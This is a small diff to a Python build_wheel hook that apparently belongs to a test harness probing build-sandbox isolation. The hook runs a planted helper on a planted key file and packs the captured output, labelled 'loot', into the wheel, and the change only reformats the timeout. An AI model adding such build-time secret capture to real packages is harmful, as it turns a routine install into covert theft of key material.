@@ -13,6 +13,8 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     loot = {}
     with kit.attempt("run-helper"):
         command = [kit.plant("helper").path, kit.plant("key").path]
-        answer = subprocess.run(command, stdout=subprocess.PIPE, timeout=5, check=False)
+        answer = subprocess.run(
+            command, stdout=subprocess.PIPE, timeout=kit.seconds(5), check=False
+        )
         loot["data.bin"] = answer.stdout
     return kit.wheel(wheel_directory, loot)
